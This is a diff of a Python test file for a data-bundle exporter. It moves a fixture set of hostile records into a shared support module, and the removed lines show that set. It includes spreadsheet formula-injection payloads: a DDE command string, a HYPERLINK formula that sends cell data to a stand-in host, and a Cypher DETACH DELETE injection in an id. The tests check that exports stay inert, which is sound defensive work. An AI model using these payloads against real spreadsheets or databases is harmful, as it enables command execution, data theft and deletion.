@@ -26,8 +26,10 @@ import openpyxl
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from test_api import Api, _app
-from test_cli import PKG_PARENT, run
+from tests_support import PKG_PARENT
+from tests_support.api import Api, api_on
+from tests_support.cli import run
+from tests_support.counties import DDE, HOSTILE
 
 from graphsvc.bundle.schema import FILES, FORMULA_TRIGGERS, escape_formula, unescape_formula
 from graphsvc.bundle.writer import escaped, write_bundle
@@ -36,55 +38,6 @@ from graphsvc.stores.base import Store
 from graphsvc.stores.embedded import EmbeddedStore
 
 AS_OF = "2026-06-30"
-DDE = "=cmd|' /C calc'!A0"
-
-# one record of every kind, with an id or a text starting with every trigger in every column
-# that carries free text: ids (and so the references), names, addresses, requests; a phone
-# has a phone number's shape, so of the triggers only '+' (+86) can start one
-HOSTILE: dict[str, list[dict[str, Any]]] = {
-    "townships": [{"id": "=T1", "name": DDE}],
-    "villages": [{"id": "+V1", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "township_id": "=T1",
-                  "needs_pairing": True}],
-    "organizations": [{"id": "-O1", "name": "\t=1+1", "kind": "committee", "level": "county",
-                       "parent_id": None, "township_id": "=T1", "village_id": None}],
-    "units": [{"id": "@U1", "name": "'=1+1", "sector": "agency", "organization_id": "-O1"}],
-    "people": [
-        {"id": "=C1", "name": "-2+3", "roles": ["committee_member"], "status": "active",
-         "inactive_since": None, "hardship": False, "organization_id": "-O1",
-         "township_id": None, "village_id": None, "phone": "+86 139 0000 0001"},
-        {"id": "''D1", "name": "''", "roles": ["delegate"], "status": "active",
-         "inactive_since": None, "hardship": True, "organization_id": None,
-         "township_id": None, "village_id": "+V1", "phone": "+86-139-0000-0002"},
-        {"id": "'M1", "name": '\r=HYPERLINK("http://example.invalid/?"&A1,"x")', "roles": [],
-         "status": "active", "inactive_since": None, "hardship": False, "organization_id": None,
-         "township_id": None, "village_id": "+V1", "phone": "+8613900000003"},
-        {"id": "P'}) DETACH DELETE (n) //", "name": "v\x0btab\x01 _x000D_ x005F_", "roles": [],
-         "status": "active", "inactive_since": None, "hardship": False,
-         "organization_id": None, "township_id": None, "village_id": "+V1",
-         "phone": "0571-8888123转12"},
-    ],
-    "households": [
-        {"id": "+H1", "head_name": "=1+1", "village_id": "+V1", "categories": ["poor"],
-         "size": 3, "status": "active", "inactive_since": None, "phone": "+8613800000000",
-         "address": "双宝村1号\r=cmd|' /C calc'!A0"},  # a bare CR must not start a new row
-        {"id": "'H2", "head_name": "'", "village_id": "+V1", "categories": [], "size": None,
-         "status": "active", "inactive_since": None, "phone": None, "address": "'abc"},
-    ],
-    "liaisons": [
-        {"kind": "committee_member-delegate", "from_id": "=C1", "to_id": "''D1",
-         "since": None, "until": None},
-        {"kind": "delegate-member", "from_id": "''D1", "to_id": "'M1", "since": None,
-         "until": None},
-        {"kind": "member-household", "from_id": "'M1", "to_id": "+H1", "since": None,
-         "until": None},
-        {"kind": "member-household", "from_id": "'M1", "to_id": "'H2", "since": None,
-         "until": None},
-    ],
-    "pairings": [{"unit_id": "@U1", "village_id": "+V1", "since": None, "until": None}],
-    "supports": [{"person_id": "=C1", "household_id": "+H1", "since": None, "until": None}],
-    "contacts": [{"person_id": "'M1", "household_id": "+H1", "date": "2026-06-01",
-                  "channel": "visit", "request": DDE, "resolved": False}],
-}
 
 
 def data_cells(text: str) -> list[list[str]]:
@@ -214,7 +167,7 @@ def test_bundle_export_is_inert_and_round_trips(store: Store, tmp_path: Path) ->
 def hostile_api(store: Store, tmp_path: Path) -> Iterator[Api]:
     write_bundle(HOSTILE, tmp_path / "hostile")
     assert import_path(store, tmp_path / "hostile").ok
-    yield from _app(store, tmp_path / "api")
+    yield from api_on(store, tmp_path / "api")
 
 
 def test_api_csv_export_is_inert(hostile_api: Api) -> None:
